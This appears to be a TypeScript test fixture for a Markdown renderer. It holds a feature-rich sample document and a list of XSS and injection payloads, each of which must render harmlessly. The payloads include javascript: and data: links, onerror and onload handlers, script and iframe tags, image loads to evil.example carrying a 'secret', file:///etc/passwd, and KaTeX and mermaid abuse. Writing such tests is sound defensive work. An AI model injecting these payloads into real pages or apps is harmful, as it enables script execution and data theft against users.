// Texts for the tests: one document with everything Markdown has, and what attackers write.

export const DOCUMENT = `# Why fsync is slow

Into waiting for the disk to *promise*. Each commit in \`WAL\` mode with **synchronous=FULL** ends
in one ***fsync***, see [the manual](https://example.org/a?b=1&c=2 "a title") or <https://sqlite.org>.

- one commit per request: about 4 ms each;
- a hundred requests: the same
  - nested \`item\`
  - another

    with a paragraph
- [ ] to do
- [x] done

1. first
2. second

3. after a blank line

\`\`\`rust
while let Some(first) = queue.recv() {
    let tx = db.transaction()?; // one fsync

    apply(&tx, first)?;
}
\`\`\`

| rows | NORMAL | FULL |
|---:|:---|---|
| 1 | 20,000/s | 266/s |
| 100 | 155,000/s | a \\| b |

> A quoted thought,
> with a [reference][ref] and ![a picture](https://tracker.example/p.png).

Setext heading
---

A formula $E = mc^2$ in a line, prices of $5 and $6, and \\(a + b\\):

$$
\\int_0^1 x^2\\,dx

= \\frac13
$$

\\[ \\sum_{i=1}^n i \\]

Text with <b>HTML</b> and a line<br>break, and <!-- a comment -->.

<div onclick="x()">
block html
</div>

~~~
tildes *are* code
~~~

    indented code

***

~~gone~~ but ~20 stays. www.example.org and someone@example.org

[ref]: https://example.org/ref "Reference"

\`\`\`mermaid
graph TD; A-->B
\`\`\`

Письмо: «проверка» — 漢字 🙂 end.
`;

export const FOOTNOTES = 'A claim.[^1] Another.[^two]\n\n[^1]: The source.\n\n[^two]: With **bold**.\n\nMore text.\n';

/** Each must render without script, foreign request, event handler or dangerous address. */
export const ATTACKS: readonly string[] = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](&#106;&#97;vascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a]( javascript:alert(1) )',
  '[a](<java script:alert(1)>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '[a](tauri://localhost/index.html)',
  '[a](ipc://localhost/set_provider_key)',
  '[a](blob:https://example.org/1)',
  '[a](//evil.example/x)',
  '[a](/api/session)',
  '[a](https://bank.example@evil.example/)',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<object data="data:text/html,x"></object><embed src="https://evil.example">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php alert(1) ?>',
  '![a](javascript:alert(1))',
  '![a](https://evil.example/leak?secret=1)',
  '![a](http://evil.example/leak.svg)',
  '![a](//evil.example/leak)',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a](DATA:IMAGE/SVG+XML;base64,PHN2Zy8+)',
  '![a](data:text/html;base64,PHNjcmlwdD4=)',
  '![a" onerror="alert(1)](x)',
  '![a](x "\\" onerror=\\"alert(1)")',
  '[![a](https://evil.example/p.png)](javascript:alert(1))',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '> - [a](javascript:alert(1)) <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics[width=1em]{https://evil.example/p.png}$',
  '$\\htmlStyle{background:url(https://evil.example)}{x}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlId{x"onmouseover="alert(1)}{x}$',
  '$\\unknown{<img src=x onerror=alert(1)>}$',
  '$<img src=x onerror=alert(1)>$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\rule{99999em}{99999em}$',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A-->B\n```',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))',
  'x[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: y',
  '# <img src=x onerror=alert(1)>',
  '__proto__ [__proto__][__proto__]\n\n[__proto__]: javascript:alert(1)',
];
